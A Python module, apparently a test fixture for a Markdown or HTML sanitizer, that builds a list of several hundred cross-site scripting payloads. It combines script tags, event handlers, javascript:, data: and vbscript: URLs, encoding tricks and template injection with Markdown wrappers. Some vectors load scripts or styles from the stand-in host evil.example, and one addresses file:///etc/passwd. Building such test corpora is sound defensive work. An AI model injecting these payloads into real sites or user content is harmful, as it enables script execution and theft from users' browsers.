"""Texts that are meant to become more than text: markup that closes what it stands in, addresses that run."""

from itertools import product

_RUNS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)' id=x>x</a>",
    "<style>@import 'javascript:alert(1)'</style>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<object data='javascript:alert(1)'>",
    "<embed src='javascript:alert(1)'>",
    "<form action='javascript:alert(1)'><button>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<xss style=animation-name:x onanimationstart=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>x",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\"'><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=`x`onerror=alert(1)>",
    '<a\nhref="java\tscript:alert(1)">x</a>',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "{{constructor.constructor('alert(1)')()}}",
)
_AROUND = (
    "{}",
    "**{}**",
    "`{}`",
    "```html\n{}\n```",
    "> {}",
    "- {}",
    "||{}||",
    "~~*{}*~~",
    "| {} | b |\n|---|---|\n| 1 | {} |",
    "[{}](https://example.org)",
    "[x](https://example.org/{})",
    "https://example.org/{}",
    "@{} #{}",
)
_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript://example.org/%0aalert(1)",
    "//evil.example",
    "/logout",
    "/\\evil.example",
    "file:///etc/passwd",
    "blob:https://example.org/x",
    'https://example.org/"onmouseover=alert(1)//',
    "https://a'onclick='alert(1)",
    "https://example.org/`onclick=alert(1)`",
    "mailto:a@b.c?subject=<script>alert(1)</script>",
    "feed:javascript:alert(1)",
)
_LINKS = (
    "[x]({})",
    "[x](<{}>)",
    "<{}>",
    '[x]({} "t")',
    "[x]( {} 'onclick=alert(1)')",
    "![x]({})",
    "[a]: {}\n[a]",
    "{}",
)
_FENCES = ('```python" onclick="alert(1)\nx\n```', "```<script>alert(1)</script>\nx\n```", '``` c-k" style=x\nx\n```')

ATTACKS = tuple(
    dict.fromkeys(
        [
            *(around.replace("{}", run) for run, around in product(_RUNS, _AROUND)),
            *(link.replace("{}", address) for address, link in product(_ADDRESSES, _LINKS)),
            *_FENCES,
        ]
    )
)
